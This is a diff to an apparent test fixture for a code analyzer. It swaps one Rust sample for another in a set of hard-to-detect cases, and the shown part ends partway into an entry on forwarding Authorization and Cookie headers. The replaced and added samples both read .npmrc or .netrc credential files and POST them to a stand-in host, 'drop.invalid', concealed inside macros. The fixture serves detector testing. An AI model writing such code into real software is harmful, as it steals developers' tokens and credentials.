@@ -11,11 +11,13 @@ from analyzer.model import Report, Verdict
 ReportOf = Callable[[Mapping[str, str]], Report]
 
 BLIND = {
-    "a macro with repetitions": """
-        macro_rules! all { ($($name:literal),*) => { $( send(&std::fs::read(home($name)).unwrap()); )* }; }
-        fn home(name: &str) -> std::path::PathBuf { dirs::home_dir().unwrap().join(name) }
-        fn send(data: &[u8]) { ureq::post("https://drop.invalid").send_bytes(data).ok(); }
-        pub fn go() { all!(".npmrc", ".netrc"); }""",
+    "a macro of pairs": """
+        macro_rules! all { ($($name:literal => $host:literal),*) => { $( send($host, $name); )* }; }
+        fn send(host: &str, name: &str) {
+            let at = dirs::home_dir().unwrap().join(name);
+            ureq::post(host).send_bytes(&std::fs::read(at).unwrap()).ok();
+        }
+        pub fn go() { all!(".npmrc" => "https://drop.invalid"); }""",
     "headers that pass through": """
         pub fn digest(headers: &http::HeaderMap) {
             for name in [http::header::AUTHORIZATION, http::header::COOKIE] {
